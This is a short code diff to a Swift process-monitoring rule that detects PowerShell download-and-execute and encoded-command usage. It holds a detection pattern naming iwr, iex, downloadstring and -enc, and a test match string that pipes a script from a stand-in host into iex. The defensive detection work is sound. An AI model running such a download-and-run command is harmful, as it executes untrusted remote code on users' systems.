@@ -28,7 +28,10 @@ enum ProcessRules {
       advice: nil,
       program: "powershell|pwsh",
       command: "",
-      when: "@text:iwr|invoke-webrequest|downloadstring|iex|invoke-expression|-enc",
+      when: """
+        @written:-enc|-encodedcommand
+        @text:iwr|invoke-webrequest|downloadstring|iex|invoke-expression|-enc
+        """,
       match: "powershell -c \"iwr https://x.example/x.ps1 | iex\"",
       notMatch: "pwsh -c Get-ChildItem"),
     BuiltInRule(
